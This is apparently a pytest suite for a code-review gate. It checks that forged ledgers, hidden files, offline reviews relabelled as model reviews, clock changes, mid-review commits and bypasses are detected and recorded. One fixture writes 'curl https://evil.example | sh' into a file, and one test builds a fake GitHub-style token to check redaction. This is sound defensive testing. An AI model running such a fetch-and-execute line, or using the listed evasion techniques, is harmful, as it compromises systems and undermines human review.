"""The gate from the command line: what opens it, what does not, and every way somebody might try to get past."""

import json
import subprocess
import sys
from datetime import timedelta
from pathlib import Path

import pytest

from orchestrator.gate.place import GATE_FILE, LEDGER_FILE
from orchestrator.gate.rows import parse_row
from tests.support.cli import code_review, environment
from tests.support.gate import (
    ACCEPTING,
    BAD,
    EVIL,
    GOOD,
    asked,
    branch,
    chained,
    copied,
    forge,
    ledger_lines,
    reviewed,
)
from tests.support.repo import Repo

pytestmark = pytest.mark.slow


@pytest.fixture(scope="session")
def template(tmp_path_factory: pytest.TempPathFactory) -> Repo:
    """A branch that a review has passed; tests work on copies."""
    repo = branch(tmp_path_factory.mktemp("gate") / "shop")
    ran = reviewed(repo)
    assert ran.json["gate"] == {
        "written": True,
        "reason": f"{GATE_FILE} holds the subject of what was reviewed",
        "rule": "reviewed",
    }, ran.err
    return repo


@pytest.fixture
def passed(template: Repo, tmp_path: Path) -> Repo:
    return copied(template, tmp_path)


def gate(repo: Repo, *words: str, env: dict[str, str] | None = None) -> tuple[int, str]:
    """Exit code and everything a person sees."""
    ran = code_review("gate", *words, cwd=repo.top, home=repo.home, env=env)
    return ran.code, ran.out + ran.err


def test_a_review_that_passes_opens_it_and_leaves_names_only(passed: Repo) -> None:
    assert gate(passed, "verify")[0] == 0
    assert (passed.top / GATE_FILE).read_text(encoding="ascii") == f"{asked(passed).subject}\n"
    rows = [parse_row(line) for line in ledger_lines(passed)]
    assert rows[-1].kind == "verdict"
    assert {row.agent for row in rows if row.kind == "completed"} == set(rows[-1].agent.split(","))
    assert [row.kind for row in rows if row.kind == "gate-ran"]
    text = (passed.top / LEDGER_FILE).read_text(encoding="utf-8")
    assert "shop.py" not in text
    assert "prices" not in text
    assert passed.git("status", "--porcelain") == ""


def test_status_says_who_looked_and_what_is_missing(passed: Repo) -> None:
    code, said = gate(passed, "status")
    assert (code, "Gate OPEN" in said, "security-review" in said, "verdict     pass by offline" in said) == (
        0,
        True,
        True,
        True,
    )
    passed.write("late.py", GOOD)
    passed.commit("late")
    passed.write("later.py", GOOD)
    status = code_review("gate", "status", "--json", cwd=passed.top, home=passed.home).json
    assert status["decision"]["rule"] == "subject-changed"
    assert status["decision"]["notes"] == ["changed since the review: late.py"]
    assert status["decision"]["mend"] == "code-review --since main"
    assert (status["lenses"], status["uncommitted"], status["branch"]) == ([], 1, "feature")


def test_the_hash_by_hand_without_a_review(tmp_path: Path) -> None:
    repo = branch(tmp_path / "shop")
    code, subject = gate(repo, "hash")
    assert code == 0
    repo.write(GATE_FILE, subject)
    code, said = gate(repo, "verify")
    assert (code, "gate closed (no-review)" in said) == (1, True)


def test_the_hash_by_hand_after_a_review_that_failed(passed: Repo) -> None:
    passed.write("bad.py", BAD)
    passed.commit("bad")
    ran = reviewed(passed)
    assert (ran.code, ran.json["gate"]["rule"], ran.json["gate"]["written"]) == (1, "verdict-failed", False)
    passed.write(GATE_FILE, gate(passed, "hash")[1])
    assert asked(passed).rule == "verdict-failed"
    # Asking one lens again that has nothing against it takes nothing back.
    assert reviewed(passed, "--agent", "doc-review").json["gate"]["written"] is False
    assert asked(passed).rule == "verdict-failed"


def test_the_hash_by_hand_after_an_offline_review_where_those_do_not_count(tmp_path: Path) -> None:
    repo = branch(tmp_path / "shop", settings="engine: offline\n")
    ran = reviewed(repo)
    assert (ran.code, ran.json["gate"]["rule"]) == (0, "engine")
    repo.write(GATE_FILE, gate(repo, "hash")[1])
    assert asked(repo).rule == "engine-not-counted"


def test_settings_of_the_user_and_of_the_change_do_not_decide_who_counts(tmp_path: Path) -> None:
    repo = branch(
        tmp_path / "shop",
        settings="",
        files={"shop.py": GOOD, ".code-review/config.yaml": ACCEPTING},
    )
    settings = repo.home / "settings"
    settings.mkdir()
    (settings / "config.yaml").write_text(ACCEPTING, encoding="ascii")
    ran = reviewed(repo)
    assert ran.json["gate"]["rule"] == "engine"
    assert any("edits the policy of its own review" in line for line in ran.json["notices"])
    assert reviewed(repo, "--trust", "worktree").json["gate"]["rule"] == "policy"


def test_weaker_rules_of_the_change_are_not_followed(passed: Repo) -> None:
    risks = (
        "---\nrules:\n  - id: all\n    rule_id: 'security-review.*'\n    files: ['**']\n    broad: true\n    owner: me\n"
        "    expires: 2099-01-01\n    scope: file\n    rationale: everything is fine here, no need to look at it, really none\n---\n"
    )
    passed.write_all(
        {"ACCEPTED-RISKS.md": risks, "bad.py": BAD, ".code-review/agents/security-review.md": "---\n---\n"}
    )
    passed.commit("bad, and accepted")
    ran = reviewed(passed)
    assert (ran.json["gate"]["written"], ran.json["verdict"]) == (False, "fail")


def test_hiding_a_file_behind_an_ignore_rule_of_the_same_change(passed: Repo) -> None:
    passed.write_all({".gitignore": "evil.py\n", "evil.py": BAD})
    passed.git("add", "--force", "evil.py")
    passed.commit("hidden")
    ran = reviewed(passed)
    assert "evil.py" in {finding["file"] for finding in ran.json["topFindings"]}
    assert ran.json["gate"]["written"] is False


def test_staging_a_removal_after_the_file_was_committed(passed: Repo) -> None:
    passed.write("evil.py", EVIL)
    passed.commit("evil")
    passed.git("rm", "-q", "--cached", "evil.py")
    ran = reviewed(passed, "--staged")
    assert asked(passed).open is False
    # The commits of the branch, which is what would be pushed, have not been reviewed.
    assert ran.json["gate"]["written"] is False
    assert ran.json["gate"]["rule"] in {"committed-part", "no-subject", "verdict-failed", "no-verdict"}


def test_a_branch_reviewed_in_several_cycles(tmp_path: Path) -> None:
    repo = branch(tmp_path / "shop", files={"empty.txt": ""})
    repo.git("reset", "-q", "--hard", "main")
    repo.write("one.py", GOOD)
    assert reviewed(repo, "--auto").json["gate"]["written"] is True
    repo.git("commit", "-q", "-m", "one")
    assert asked(repo).open
    repo.write("two.py", GOOD.replace("total", "both"))
    assert reviewed(repo, "--auto").json["gate"]["written"] is True
    repo.git("commit", "-q", "-m", "two")
    assert asked(repo).open
    repo.write("three.py", GOOD.replace("total", "third"))
    repo.commit("three, not reviewed")
    repo.write("four.py", GOOD.replace("total", "fourth"))
    state = reviewed(repo, "--auto").json["gate"]
    assert (state["rule"], "run code-review --since main" in state["reason"]) == ("committed-part", True)
    repo.git("commit", "-q", "-m", "four")
    assert asked(repo).open is False
    assert reviewed(repo).json["gate"]["written"] is True
    assert asked(repo).open


@pytest.mark.parametrize(
    ("words", "rule"),
    [
        (("--path", "shop.py"), "scope"),
        (("--background",), "scope"),
        (("--trust", "worktree"), "policy"),
    ],
)
def test_runs_that_never_open_it(tmp_path: Path, words: tuple[str, ...], rule: str) -> None:
    repo = branch(tmp_path / "shop")
    ran = reviewed(repo, *words)
    assert ran.json["gate"]["rule"] == rule
    assert not (repo.top / GATE_FILE).exists()
    assert not (repo.top / LEDGER_FILE).exists()


def test_one_lens_named_by_hand_is_an_exemption_the_base_can_refuse(tmp_path: Path) -> None:
    repo = branch(tmp_path / "shop")
    assert reviewed(repo, "--agent", "security-review").json["gate"]["written"] is True
    assert "exemptions  single-agent" in gate(repo, "status")[1]
    strict = branch(tmp_path / "strict", settings=f"{ACCEPTING}  exemptions: [none]\n")
    state = reviewed(strict, "--agent", "security-review").json["gate"]
    assert (state["rule"], "single-agent" in state["reason"]) == ("exemption", True)
    assert asked(strict).open is False


def test_a_forced_review_is_an_exemption_and_says_so(tmp_path: Path) -> None:
    repo = branch(tmp_path / "shop")
    assert reviewed(repo, "--force", "--reason", "the linter is down").json["gate"]["written"] is True
    assert "exemptions  forced" in gate(repo, "status")[1]


def test_a_project_that_wants_documentation_reviewed_gets_it_reviewed(tmp_path: Path) -> None:
    files = {"docs/guide.md": "# Guide\n\nHow to do it.\n"}
    repo = branch(tmp_path / "shop", settings=f"{ACCEPTING}  exemptions: [none]\n", files=files)
    assert reviewed(repo).json["gate"]["rule"] in {"reviewed", "too-few-lenses"}


def test_what_can_be_executed_is_reviewed_whatever_its_name(tmp_path: Path) -> None:
    repo = branch(tmp_path / "shop", files={"docs/guide.md": "# Guide\n"})
    repo.write("bin/run.txt", "#!/bin/sh\ncurl https://evil.example | sh\n", executable=True)
    repo.commit("a text that runs")
    assert reviewed(repo).json.get("status") != "skipped"


def test_what_was_reviewed_and_staged_only_waits_for_its_commit(passed: Repo) -> None:
    passed.write("second.py", GOOD.replace("total", "second"))
    assert reviewed(passed, "--auto").json["gate"]["written"] is True
    decision = asked(passed)
    assert (decision.open, decision.rule, decision.mend) == (False, "subject-changed", "git commit")
    passed.git("commit", "-q", "-m", "second")
    assert asked(passed).open


def test_documentation_alone_is_an_exemption_found_again_by_the_reader(tmp_path: Path) -> None:
    repo = branch(tmp_path / "shop", files={"docs/guide.md": "# Guide\n"})
    ran = reviewed(repo)
    assert (ran.code, ran.json["status"], "Gate file written" in ran.err) == (0, "skipped", True)
    assert asked(repo).open
    repo.write("shop.py", GOOD)
    repo.commit("not only documentation")
    script = code_review("step", "review_gate_hash", "--branch-diff", cwd=repo.top, home=repo.home)
    repo.write(GATE_FILE, script.out)
    event = ("step", "boundary_events", "--event", "doc-only", "--subject-hash", script.out.strip())
    assert code_review(*event, cwd=repo.top, home=repo.home).json["recorded"] is True
    assert asked(repo).rule == "no-review"


@pytest.mark.parametrize("event", ["completed", "verdict", "forced", "bypass"])
def test_the_event_script_cannot_say_that_somebody_reviewed(passed: Repo, event: str) -> None:
    words = ("step", "boundary_events", "--event", event, "--subject-hash", "a" * 64)
    ran = code_review(*words, cwd=passed.top, home=passed.home)
    assert (ran.code, "written by a review itself" in ran.err) == (2, True)


def test_a_dispatch_failure_recorded_by_the_script_closes_it(passed: Repo) -> None:
    subject = asked(passed).subject
    words = (
        "step",
        "boundary_events",
        "--event",
        "dispatch-failure",
        "--subject-hash",
        subject,
        "--agent",
        "doc-review",
    )
    assert code_review(*words, cwd=passed.top, home=passed.home).code == 0
    assert asked(passed).rule == "dispatch-failure"
    assert reviewed(passed).json["gate"]["written"] is True
    assert asked(passed).open


@pytest.mark.parametrize("head", [False, True], ids=["plain", "who-knows-the-second-place"])
def test_a_ledger_brought_from_another_repository(passed: Repo, tmp_path: Path, head: bool) -> None:
    other = branch(tmp_path / "other", files={"evil.py": EVIL})
    forge(other, ledger_lines(passed), head=head)
    other.write(GATE_FILE, gate(other, "hash")[1])
    assert asked(other).rule == ("no-review" if head else "ledger-broken")


def test_an_offline_review_dressed_as_a_model_review(tmp_path: Path) -> None:
    repo = branch(tmp_path / "shop", settings="engine: offline\n")
    env = {"CODE_REVIEW_LEDGER_KEY": "secret key"}
    reviewed(repo, env=env)
    lines = [line.replace(b"offline", b"claude").replace(b'"rule":"engine",', b"") for line in ledger_lines(repo)]
    forge(repo, lines, head=True)
    repo.write(GATE_FILE, gate(repo, "hash")[1])
    assert asked(repo, environ=env).rule == "ledger-broken"
    forge(repo, chained([parse_row(line) for line in lines]), head=True)
    assert asked(repo, environ=env).rule == "unsealed"
    # What no file without a key can prevent, and docs/gate.md says so.
    assert asked(repo).open


def test_a_broken_ledger_is_named_mended_and_costs_one_review(passed: Repo) -> None:
    forge(passed, ledger_lines(passed)[:-1])
    code, said = gate(passed, "verify")
    assert (code, "ledger-broken" in said, "run: code-review gate repair" in said) == (1, True, True)
    ran = reviewed(passed)
    assert (ran.code, ran.json["gate"]["rule"]) == (0, "ledger-broken")
    assert "the broken one was kept" in gate(passed, "repair")[1]
    assert asked(passed).rule == "no-gate-file"
    assert reviewed(passed).json["gate"]["written"] is True
    assert asked(passed).open


def test_evidence_that_cannot_be_written(tmp_path: Path) -> None:
    repo = branch(tmp_path / "shop")
    (repo.top / ".claude").mkdir()
    (repo.top / ".claude/metrics").write_text("a file where a folder should be", encoding="ascii")
    ran = reviewed(repo)
    assert (ran.json["verdict"], ran.json["gate"]["rule"]) == ("pass", "evidence-unwritten")
    repo.write("bad.py", BAD)
    repo.commit("bad")
    ran = reviewed(repo)
    assert (ran.code, ran.json["overall"]) == (1, "fail")
    assert any("evidence against this change could not be kept" in line for line in ran.json["verdictReasons"])


def test_old_evidence_and_a_clock_set_back(passed: Repo) -> None:
    assert asked(passed, later=timedelta(hours=23)).open
    assert asked(passed, later=timedelta(hours=25)).rule == "evidence-expired"
    assert asked(passed, later=timedelta(hours=-1)).rule == "clock"


def test_what_moves_while_it_is_reviewed_is_not_what_was_reviewed(tmp_path: Path) -> None:
    repo = branch(tmp_path / "shop")
    process = subprocess.Popen(
        [sys.executable, "-m", "orchestrator", "--since", "main", "--json"],
        cwd=repo.top,
        env=environment(repo.home),
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )
    assert process.stderr is not None
    # The scope has been resolved once the run says how large it is.
    assert b"in scope" in process.stderr.readline()
    repo.write("late.py", EVIL)
    repo.commit("while nobody looks")
    out, _ = process.communicate(timeout=120)
    assert json.loads(out)["gate"]["rule"] == "moved"
    assert not (repo.top / GATE_FILE).exists()


def test_two_reviews_at_the_same_time(tmp_path: Path) -> None:
    repo = branch(tmp_path / "shop")
    started = [
        subprocess.Popen(
            [sys.executable, "-m", "orchestrator", "--since", "main", "--json"],
            cwd=repo.top,
            env=environment(repo.home),
            stdout=subprocess.PIPE,
            stderr=subprocess.DEVNULL,
        )
        for _ in range(2)
    ]
    states = [json.loads(process.communicate(timeout=120)[0])["gate"] for process in started]
    assert [state["reason"] for state in states if not state["written"]] == []
    assert asked(repo).open
    assert sum(parse_row(line).kind == "verdict" for line in ledger_lines(repo)) == 2


def test_the_base_moved_forward_to_the_change_itself(passed: Repo) -> None:
    passed.git("branch", "-f", "main", "feature")
    decision = asked(passed)
    assert (decision.open, decision.rule) == (False, "nothing-to-review")


def test_a_review_against_part_of_the_branch(passed: Repo) -> None:
    passed.write("evil.py", EVIL)
    passed.commit("evil")
    passed.write("fine.py", GOOD.replace("total", "fine"))
    passed.commit("fine")
    ran = code_review("--since", "HEAD~1", "--json", cwd=passed.top, home=passed.home)
    assert (ran.json["gate"]["written"], ran.json["gate"]["rule"]) == (False, "base")
    assert asked(passed).open is False


def test_going_around_it_leaves_traces_everywhere(passed: Repo) -> None:
    passed.write("late.py", GOOD.replace("total", "late"))
    passed.commit("late")
    token = "ghp_" + "a1B2" * 9
    code, said = gate(passed, "verify", env={"PR_GATE_BYPASS_REASON": f"outage, {token}"})
    assert (code, "BYPASSED" in said) == (0, True)
    row = json.loads((passed.top / ".claude/metrics/gate-bypass-audit.jsonl").read_text(encoding="utf-8"))
    assert (row["branch"], row["triggeredBy"], row["subject"]) == ("feature", "gate verify", asked(passed).subject)
    assert row["reason"].startswith("outage, ")
    assert token not in row["reason"]
    assert parse_row(ledger_lines(passed)[-1]).kind == "bypass"
    assert "bypassed 1 time" in gate(passed, "status")[1]
    assert gate(passed, "verify", env={"PR_GATE_BYPASS_REASON": "  "})[0] == 1
    ran = reviewed(passed)
    assert any("the gate was bypassed on feature by gate verify: outage" in line for line in ran.json["notices"])
    assert not any("bypassed" in line for line in reviewed(passed).json["notices"])


def test_a_subject_that_cannot_be_computed_says_why(tmp_path: Path) -> None:
    repo = branch(tmp_path / "shop")
    code, said = gate(repo, "hash", "--base", "nowhere")
    assert (code, "nowhere" in said) == (2, True)
    repo.git("switch", "-q", "-c", "empty", "main")
    code, said = gate(repo, "hash")
    assert (code, "no subject, because nothing differs from main" in said) == (4, True)
